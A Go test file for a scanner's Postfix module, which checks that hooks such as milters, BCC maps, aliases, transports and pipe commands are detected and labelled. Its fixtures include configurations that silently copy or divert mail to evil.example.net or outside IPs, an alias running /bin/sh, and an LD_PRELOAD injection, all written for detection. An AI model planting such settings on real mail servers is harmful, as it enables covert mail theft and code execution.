package postfix

import (
	"fmt"
	"strings"
	"testing"

	"waxseal"
)

// line renders what matters of a hook.
func line(h waxseal.Hook) string {
	effects := make([]string, len(h.Effects))
	for i, e := range h.Effects {
		effects[i] = string(e)
	}
	id := strings.TrimPrefix(string(h.ID), "postfix:")
	s := fmt.Sprintf("%s | %s | %s %s | %s", id, h.Kind, h.Target.Type, h.Target.Value, strings.Join(effects, " "))
	for word, set := range map[string]bool{" | remote": h.Target.Remote, " | inactive": !h.Active, " | external": h.External} {
		if set && !strings.Contains(s, word) {
			s += word
		}
	}
	return s
}

func closure(h waxseal.Hook) string {
	var parts []string
	for _, p := range h.Closure {
		parts = append(parts, string(p.Path)+" "+string(p.Role))
	}
	return strings.Join(parts, ", ")
}

// own is the start of a main.cf whose domain is example.test.
const own = "compatibility_level = 3.6\nmyhostname = mail.example.test\nmydestination = example.test\nalias_maps =\n"

const masterLines = `smtp inet n - n - - smtpd
cleanup unix n - n - 0 cleanup
smtp unix - - n - - smtp
relay unix - - n - - smtp
discard unix - - n - - discard
scan unix - n n - 10 pipe flags=Rq user=nobody
  argv=/usr/local/lib/.scan.sh -f ${sender}
pol unix - n n - 0 spawn user=pol argv=/usr/local/lib/greyd.py
`

func TestHookFamilies(t *testing.T) {
	for _, tc := range []struct {
		name  string
		main  string
		files map[string]string
		want  []string // lines of hooks that must be there
	}{
		{"milters", "smtpd_milters = inet:203.0.113.9:8891, { unix:/run/x.sock, default_action=accept }, unix:opendkim/s\n", nil, []string{
			"/etc/postfix/main.cf:smtpd_milters:1 | milter | socket inet:203.0.113.9:8891 | observe divert modify drop | remote",
			"/etc/postfix/main.cf:smtpd_milters:2 | milter | socket unix:/run/x.sock | observe divert modify drop",
			"/etc/postfix/main.cf:smtpd_milters:3 | milter | socket unix:/var/spool/postfix/opendkim/s | observe divert modify drop"}},
		{"milter by reference", "m = inet:127.0.0.1:1\nnon_smtpd_milters = $smtpd_milters\nsmtpd_milters = $m\n", nil, []string{
			"/etc/postfix/main.cf:non_smtpd_milters:1 | milter | socket inet:127.0.0.1:1 | observe divert modify drop"}},
		{"milter maps", "smtpd_milter_maps = cidr:/etc/postfix/mm\n", map[string]string{"/etc/postfix/mm": "192.0.2.0/24 DISABLE\n0.0.0.0/0 inet:198.51.100.1:99\n"}, []string{
			"/etc/postfix/mm:smtpd_milter_maps:192.0.2.0/24 | milter | text DISABLE | observe divert modify drop",
			"/etc/postfix/mm:smtpd_milter_maps:0.0.0.0/0 | milter | socket inet:198.51.100.1:99 | observe divert modify drop | remote"}},
		{"content filter to pipe", "content_filter = scan:dummy\n", nil, []string{
			"/etc/postfix/main.cf:content_filter:1 | content_filter | command /usr/local/lib/.scan.sh -f ${sender} | observe divert modify drop execute",
			"/etc/postfix/master.cf:scan/unix:pipe | pipe | command /usr/local/lib/.scan.sh -f ${sender} | observe divert modify drop execute"}},
		{"content filter to host", "content_filter = smtp:[192.0.2.7]:10025\n", nil, []string{
			"/etc/postfix/main.cf:content_filter:1 | content_filter | host [192.0.2.7]:10025 | observe divert modify drop | remote",
			"/etc/postfix/master.cf:scan/unix:pipe | pipe | command /usr/local/lib/.scan.sh -f ${sender} | observe divert modify drop execute | inactive"}},
		{"bcc", "always_bcc = drop@evil.example.net\nsender_bcc_maps = inline:{ {a@example.test = x@evil.example.net}, b@example.test=root }\n", nil, []string{
			"/etc/postfix/main.cf:always_bcc:1 | copy | address drop@evil.example.net | copy | remote",
			"/etc/postfix/main.cf:sender_bcc_maps:1 | map | table inline:{{a@example.test = x@evil.example.net}, b@example.test=root} | copy",
			"/etc/postfix/main.cf:sender_bcc_maps:a@example.test | copy | address x@evil.example.net | copy | remote",
			"/etc/postfix/main.cf:sender_bcc_maps:b@example.test | copy | address root | copy"}},
		{"header checks", "header_checks = pcre:{{/^X:/ REDIRECT a@b.example}, {/^Y:/ DISCARD}}\nbody_checks = regexp:/etc/postfix/bc\n", map[string]string{"/etc/postfix/bc": "if /secret/\n/iban/\n  FILTER smtp:[203.0.113.25]:2525\nendif\n/x/ REJECT no\n/(y)/ ${1}\n"}, []string{
			"/etc/postfix/main.cf:header_checks:/^X:/ | redirect | address a@b.example | divert | remote",
			"/etc/postfix/main.cf:header_checks:/^Y:/ | discard | text DISCARD | drop",
			"/etc/postfix/bc:body_checks:/iban/ | content_filter | host [203.0.113.25]:2525 | observe divert modify drop | remote",
			"/etc/postfix/bc:body_checks:/(y)/ | redirect | text ${1} | observe copy divert modify drop"}},
		{"checks on the way out", "smtp_header_checks = regexp:{{/^From:/ PREPEND Reply-To: x@evil.example}, {/a/ REDIRECT a@b.example}}\n", nil, []string{
			"/etc/postfix/main.cf:smtp_header_checks:/^From:/ | rewrite | text Reply-To: x@evil.example | modify",
			"/etc/postfix/main.cf:smtp_header_checks:/a/ | redirect | address a@b.example | divert | remote | inactive"}},
		{"access tables", "smtpd_recipient_restrictions = permit_mynetworks, check_recipient_access hash:/etc/postfix/ra reject\n", map[string]string{"/etc/postfix/ra": "abuse@example.test OK\nalice@example.test redirect drop@evil.example.net\n"}, []string{
			"/etc/postfix/main.cf:smtpd_recipient_restrictions:1 | map | table hash:/etc/postfix/ra | observe copy divert modify drop",
			"/etc/postfix/ra:smtpd_recipient_restrictions:alice@example.test | redirect | address drop@evil.example.net | divert | remote"}},
		{"policy service", "smtpd_sender_restrictions = check_policy_service { inet:198.51.100.3:99, timeout = 3s }\nsmtpd_relay_restrictions = check_policy_service unix:private/pol\n", nil, []string{
			"/etc/postfix/main.cf:smtpd_sender_restrictions:check_policy_service:1 | policy | socket inet:198.51.100.3:99 | observe copy divert modify drop | remote",
			"/etc/postfix/main.cf:smtpd_relay_restrictions:check_policy_service:1 | policy | socket unix:/var/spool/postfix/private/pol | observe copy divert modify drop",
			"/etc/postfix/master.cf:pol/unix:spawn | pipe | command /usr/local/lib/greyd.py | observe divert modify drop execute"}},
		{"restriction classes that nobody names", "smtpd_restriction_classes = lax, more\nlax = more\nmore = check_sender_access inline:{{x@y.example = BCC a@b.example}}\n", nil, []string{
			"/etc/postfix/main.cf:more:x@y.example | copy | address a@b.example | copy | remote | inactive"}},
		{"restriction classes that a table names", "smtpd_restriction_classes = lax, more\nlax = more\nmore = check_sender_access inline:{{x@y.example = BCC a@b.example}}\nsmtpd_client_restrictions = check_client_access inline:{{192.0.2.1 = lax}}\n", nil, []string{
			"/etc/postfix/main.cf:more:x@y.example | copy | address a@b.example | copy | remote"}},
		{"restriction classes", "smtpd_restriction_classes = lax\nsmtpd_recipient_restrictions = permit_mynetworks, lax\nlax = check_sender_access inline:{{x@y.example = BCC a@b.example}}\n", nil, []string{
			"/etc/postfix/main.cf:lax:x@y.example | copy | address a@b.example | copy | remote"}},
		{"transports", "transport_maps = texthash:/etc/postfix/t\nrelayhost = [smtp.example.net]:587\n", map[string]string{"/etc/postfix/t": "a.example smtp:[203.0.113.25]:2525\nb.example discard:\nc.example scan:\nd.example :\n"}, []string{
			"/etc/postfix/t:transport_maps:a.example | transport | host [203.0.113.25]:2525 | divert | remote",
			"/etc/postfix/t:transport_maps:b.example | discard | service discard: | drop",
			"/etc/postfix/t:transport_maps:c.example | transport | command /usr/local/lib/.scan.sh -f ${sender} | observe divert modify drop execute",
			"/etc/postfix/main.cf:relayhost:1 | relay | host [smtp.example.net]:587 | divert | remote"}},
		{"virtual aliases", "virtual_alias_maps = hash:/etc/postfix/virtual\n", map[string]string{"/etc/postfix/virtual": "sales@example.test bob\nalice@example.test alice@example.test,\n  drop@evil.example.net\n"}, []string{
			"/etc/postfix/virtual:virtual_alias_maps:sales@example.test | redirect | address bob | divert",
			"/etc/postfix/virtual:virtual_alias_maps:alice@example.test | redirect | address alice@example.test | divert",
			"/etc/postfix/virtual:virtual_alias_maps:alice@example.test:2 | copy | address drop@evil.example.net | copy | remote"}},
		{"tables elsewhere", "virtual_alias_maps = proxy:mysql:/etc/postfix/my.cf, tcp:203.0.113.9:10025, socketmap:unix:/run/s:n, ldap:dir, evil:/x\ndir_server_host = ldap.example.net\n", map[string]string{"/etc/postfix/my.cf": "hosts = localhost\npassword = hunter2\n"}, []string{
			"/etc/postfix/main.cf:virtual_alias_maps:1 | map | table proxy:mysql:/etc/postfix/my.cf | divert | external",
			"/etc/postfix/main.cf:virtual_alias_maps:2 | map | table tcp:203.0.113.9:10025 | divert | remote | external",
			"/etc/postfix/main.cf:virtual_alias_maps:3 | map | table socketmap:unix:/run/s:n | divert | external",
			"/etc/postfix/main.cf:virtual_alias_maps:4 | map | table ldap:dir | divert | remote | external",
			"/etc/postfix/main.cf:virtual_alias_maps:5 | map | table evil:/x | divert | external"}},
		{"nested tables", "recipient_bcc_maps = pipemap:{hash:/etc/postfix/t1,regexp:/etc/postfix/t2}\n", map[string]string{"/etc/postfix/t1": "alice@example.test k1\nbob@example.test k2\n", "/etc/postfix/t2": "/^k(1)$/ drop$1@evil.example.net\n"}, []string{
			"/etc/postfix/t1:recipient_bcc_maps:alice@example.test | copy | address drop1@evil.example.net | copy | remote"}},
		{"joined tables", "virtual_alias_maps = unionmap:{texthash:/etc/postfix/t1,inline:{alice@example.test=x@evil.example.net}}\n", map[string]string{"/etc/postfix/t1": "alice@example.test alice@example.test\n"}, []string{
			"/etc/postfix/t1:virtual_alias_maps:alice@example.test:2 | copy | address x@evil.example.net | copy | remote"}},
		{"nested tables that can't be worked out", "recipient_bcc_maps = pipemap:{regexp:/etc/postfix/t1,regexp:/etc/postfix/t2}\n", map[string]string{"/etc/postfix/t1": "/a/ k1\n", "/etc/postfix/t2": "/^k1$/ drop@evil.example.net\n"}, []string{
			"/etc/postfix/t2:recipient_bcc_maps:/^k1$/ | copy | address drop@evil.example.net | copy | remote"}},
		{"a key twice", "virtual_alias_maps = texthash:/etc/postfix/t1\n", map[string]string{"/etc/postfix/t1": "a@example.test bob\nA@example.test x@evil.example.net\n"}, []string{
			"/etc/postfix/t1:virtual_alias_maps:a@example.test | redirect | address bob | divert",
			"/etc/postfix/t1:virtual_alias_maps:a@example.test#2 | redirect | address x@evil.example.net | divert | remote | inactive"}},
		{"aliases", "alias_maps = hash:/etc/aliases\n", map[string]string{
			"/etc/aliases": "root: admin\nlog: \"|/bin/sh -c 'id > /x'\", /var/tmp/f, /dev/null\nteam: :include:/etc/team\nalice: \\alice, a@evil.example.net\n",
			"/etc/team":    "bob\n|/usr/local/bin/x\n:include:/etc/team\n"}, []string{
			"/etc/aliases:alias_maps:root | redirect | address admin | divert",
			"/etc/aliases:alias_maps:log | pipe | command /bin/sh -c 'id > /x' | observe divert modify drop execute",
			"/etc/aliases:alias_maps:log:2 | redirect | file /var/tmp/f | divert",
			"/etc/aliases:alias_maps:log:3 | discard | file /dev/null | drop",
			"/etc/aliases:alias_maps:team | redirect | file /etc/team | divert",
			"/etc/team:alias_maps:bob | redirect | address bob | divert",
			"/etc/team:alias_maps:/usr/local/bin/x | pipe | command /usr/local/bin/x | observe divert modify drop execute | inactive",
			"/etc/aliases:alias_maps:alice:2 | copy | address a@evil.example.net | copy | remote"}},
		{"local delivery", "mailbox_command = /usr/lib/mbox -a \"$EXTENSION\"\nluser_relay = drop@evil.example.net\nforward_path = /var/f/$user\nmailbox_transport = lmtp:unix:private/dovecot\n", map[string]string{"/var/f/alice": "\\alice, x@evil.example.net\n"}, []string{
			"/etc/postfix/main.cf:mailbox_command:1 | pipe | command /usr/lib/mbox -a \"$EXTENSION\" | observe divert modify drop execute | inactive",
			"/etc/postfix/main.cf:luser_relay:1 | redirect | address drop@evil.example.net | divert | remote",
			"/etc/postfix/main.cf:forward_path:1 | redirect | file /var/f/$user | divert execute",
			"/var/f/alice:forward_path:x@evil.example.net | copy | address x@evil.example.net | copy | remote",
			"/etc/postfix/main.cf:mailbox_transport:1 | transport | socket unix:/var/spool/postfix/private/dovecot | divert"}},
		{"environment", "import_environment = MAIL_CONFIG MAIL_DEBUG MAIL_LOGTAG TZ XAUTHORITY DISPLAY LANG=C POSTLOG_SERVICE POSTLOG_HOSTNAME { LD_PRELOAD = /usr/lib/x.so }\n", nil, []string{
			"/etc/postfix/main.cf:import_environment:LD_PRELOAD | environment | text LD_PRELOAD=/usr/lib/x.so | execute"}},
		{"programs", "debugger_command = id > /x\nsendmail_path = /usr/local/sbin/sendmail\ndaemon_directory = /opt/pf\nmaillog_file_compressor = /tmp/x\n", nil, []string{
			"/etc/postfix/main.cf:debugger_command:1 | script | command id > /x | execute | inactive",
			"/etc/postfix/main.cf:sendmail_path:1 | binary | command /usr/local/sbin/sendmail | execute",
			"/etc/postfix/main.cf:daemon_directory:1 | binary | file /opt/pf | execute",
			"/etc/postfix/main.cf:maillog_file_compressor:1 | script | command /tmp/x | execute"}},
		{"log", "maillog_file = /dev/null\nsyslog_name = postfix-x\n", nil, []string{
			"/etc/postfix/main.cf:maillog_file:1 | log | file /dev/null | silence",
			"/etc/postfix/main.cf:syslog_name:1 | log | text postfix-x | "}},
		{"notices", "error_notice_recipient = drop@evil.example.net\nbounce_notice_recipient = drop@evil.example.net\n", nil, []string{
			"/etc/postfix/main.cf:error_notice_recipient:1 | copy | address drop@evil.example.net | copy | remote",
			"/etc/postfix/main.cf:bounce_notice_recipient:1 | copy | address drop@evil.example.net | copy | remote | inactive"}},
		{"modules", "", map[string]string{"/etc/postfix/dynamicmaps.cf.d/x.cf": "evil /opt/evil.so dict_evil_open\n"}, []string{
			"/etc/postfix/dynamicmaps.cf.d/x.cf:dynamicmaps:evil | module | file /opt/evil.so | execute"}},
		{"command filter", "smtpd_command_filter = pcre:/etc/postfix/cf\n", map[string]string{"/etc/postfix/cf": "/^RCPT TO:<a>/ RCPT TO:<b>\n"}, []string{
			"/etc/postfix/cf:smtpd_command_filter:/^RCPT TO:<a>/ | rewrite | text RCPT TO:<b> | divert modify drop"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{"/etc/postfix/main.cf": own + tc.main, "/etc/postfix/master.cf": masterLines}
			for p, c := range tc.files {
				files[p] = c
			}
			r := read(tree(files))
			have := map[string]bool{}
			var all []string
			for _, h := range r.Hooks {
				have[sorted(line(h))] = true
				all = append(all, line(h))
				if h.Explain == "" || h.Closure == nil || h.MTA != MTA || h.Stage == "" {
					t.Errorf("hook %s lacks a field: %+v", h.ID, h)
				}
			}
			for _, want := range tc.want {
				if !have[sorted(want)] {
					t.Errorf("no hook %q in\n%s", want, strings.Join(all, "\n"))
				}
			}
		})
	}
}

// sorted makes the order of the flags at the end of a line irrelevant.
func sorted(s string) string {
	for _, flag := range []string{" | remote", " | inactive", " | external"} {
		if strings.Contains(s, flag) {
			s = strings.Replace(s, flag, "", 1) + flag
		}
	}
	return s
}

func find(t *testing.T, r Result, id string) waxseal.Hook {
	t.Helper()
	for _, h := range r.Hooks {
		if string(h.ID) == "postfix:"+id {
			return h
		}
	}
	t.Fatalf("no hook %s", id)
	return waxseal.Hook{}
}

func TestClosures(t *testing.T) {
	r := read(tree(map[string]string{
		"/etc/postfix/main.cf": own + "virtual_alias_maps = hash:/etc/postfix/v\ncontent_filter = x:\nrelocated_maps = lmdb:/etc/postfix/gone\nalways_bcc = a@b.example",
		"/etc/postfix/master.cf": "x unix - n n - - pipe user=u argv=/bin/sh -c {cat > /tmp/x; /opt/go.sh $y}\n" +
			"upd unix n n n 5 1 ../../../local/lib/upd\n",
		"/etc/postfix/v": "a b\n", "/etc/postfix/v.db": "\x00", "/etc/postfix/gone.lmdb": "\x00", "/opt/go.sh": "#!/bin/sh\n", "/bin/sh": "x",
	}))
	for id, want := range map[string]string{
		"/etc/postfix/main.cf:virtual_alias_maps:1": "/etc/postfix/v map, /etc/postfix/v.db compiled_map",
		"/etc/postfix/main.cf:content_filter:1":     "/bin/sh binary, /opt/go.sh binary",
		"/etc/postfix/main.cf:relocated_maps:1":     "/etc/postfix/gone map, /etc/postfix/gone.lmdb compiled_map",
		"/etc/postfix/master.cf:upd/unix:command":   "/usr/local/lib/upd binary",
	} {
		if got := closure(find(t, r, id)); got != want {
			t.Errorf("%s: closure %q, want %q", id, got, want)
		}
	}
	if h := find(t, r, "/etc/postfix/main.cf:relocated_maps:1"); h.Modifiers["content"] == "" {
		t.Error("a compiled map without a source says nothing about it")
	}
	if h := find(t, r, "/etc/postfix/master.cf:upd/unix:command"); h.RunsAs != "root" || !h.Active {
		t.Errorf("upd: %+v", h)
	}
}

func TestMilterFailsOpen(t *testing.T) {
	r := read(tree(map[string]string{"/etc/postfix/main.cf": own + "smtpd_milters = inet:203.0.113.9:8891\nmilter_default_action = accept\n", "/etc/postfix/master.cf": masterLines}))
	h := find(t, r, "/etc/postfix/main.cf:smtpd_milters:1")
	want := "Every message that arrives by SMTP is handed to the milter at inet:203.0.113.9:8891 on another host, which can read, change, add recipients to or discard it; if it does not answer, mail passes unfiltered (milter_default_action = accept)."
	if h.Explain != want || h.Modifiers["milter_default_action"] != "accept" || h.Source.Line != 5 {
		t.Errorf("got %+v", h)
	}
}
